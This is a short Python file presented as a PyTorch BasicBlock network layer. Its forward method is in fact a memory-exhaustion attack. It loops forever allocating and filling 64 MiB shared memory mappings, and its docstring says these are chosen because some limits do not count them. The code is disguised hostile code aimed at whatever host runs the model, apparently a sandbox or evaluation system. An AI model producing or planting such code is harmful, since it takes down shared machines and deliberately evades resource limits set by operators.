"""Fill the memory with shared mappings, which some limits do not count."""

import mmap

from torch import nn


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()

    def forward(self, x):
        hoard = []
        while True:
            area = mmap.mmap(-1, 64 << 20)
            area.write(b"x" * (64 << 20))
            hoard.append(area)
